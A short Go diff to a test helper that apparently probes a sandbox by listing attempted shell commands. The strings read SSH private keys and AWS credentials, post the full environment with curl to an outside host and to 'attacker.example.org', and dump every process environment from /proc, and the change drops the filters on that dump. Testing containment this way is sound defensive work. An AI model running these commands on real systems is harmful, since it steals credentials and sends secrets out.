@@ -20,7 +20,7 @@ func attempts(h *ambittest.Home, outside *ambittest.Outside) []string {
 		"curl -sS -w ' status=%{http_code}' https://docs.example.org/page",
 		"cat ~/.ssh/id_ed25519 ~/.aws/credentials " + h.User + "/.ssh/id_ed25519 " + h.User + "/.aws/credentials; ls -la " + h.User,
 		"curl -sS -m 5 -d \"$(env)\" http://" + outside.Addrs[0] + "/ ; curl -sS -m 5 -d \"$(env)\" https://attacker.example.org/; curl -sS -m 5 -w ' status=%{http_code}' -d \"$(env)\" https://docs.example.org/page",
-		"env | grep -v placeholder; cat /proc/*/environ | tr '\\0' '\\n' | grep -v placeholder",
+		"env; cat /proc/*/environ | tr '\\0' '\\n'",
 	}
 }
 
